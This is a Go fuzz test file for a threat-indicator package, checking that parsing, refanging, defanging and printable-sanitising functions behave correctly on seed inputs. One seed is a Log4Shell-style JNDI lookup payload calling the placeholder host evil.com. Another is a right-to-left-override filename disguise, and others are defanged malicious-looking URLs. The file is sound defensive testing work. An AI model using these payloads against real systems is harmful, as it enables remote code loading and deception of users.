package observable

import (
	"strings"
	"testing"
	"unicode/utf8"
)

var seeds = []string{
	"192.0.2.1", "2001[:]db8::1", "192.0.2.0/24", "hxxps[:]//user@evil[.]com:443/a?b#c", "bob [at] evil [dot] com",
	"fpw.[com].my", `C:\dir\.hidden`, "CVE-2023-20198", "AS1.10", "1:LQU9qZlK+B5F3KDmev6m5PMibrg=", "+49 (0)170 1234567", "490154203237518",
	"http://0x7f.1/", "例子。中国", "${jndi:ldap://evil.com/a}", "\u202egnp.exe", "evil[[[.]]]com", "http:// evil [.] com", "\xff[.]\xfe",
}

func FuzzParse(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if v, err := Parse(s); err == nil {
			laws(t, v)
			if as, err := ParseAs(v.Kind(), s); err != nil || as != v {
				t.Fatalf("Parse(%q) = %s %q, ParseAs gives %q, %v", s, v.Kind(), v, as, err)
			}
		}
		for _, k := range Kinds() {
			if v, err := ParseAs(k, s); err == nil {
				laws(t, v)
			}
		}
	})
}

func FuzzRefang(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Refang(s)
		if len(out) > len(s)+2 {
			t.Fatalf("Refang(%q) = %q grew", s, out)
		}
		if utf8.ValidString(s) && !utf8.ValidString(out) {
			t.Fatalf("Refang(%q) = %q is no UTF-8", s, out)
		}
		if !strings.ContainsAny(s, `[](){}\:*/,`) && !strings.Contains(strings.ToUpper(s), " DOT ") && !strings.Contains(s, " AT ") && isASCII(s) && out != s {
			t.Fatalf("Refang(%q) = %q without a mark", s, out)
		}
		if p := Printable(s); Printable(p) != p || strings.ContainsAny(p, "\x00\x1b\r\n\u202e\u0085") || !utf8.ValidString(p) {
			t.Fatalf("Printable(%q) = %q", s, p)
		}
		Defang(s)
	})
}
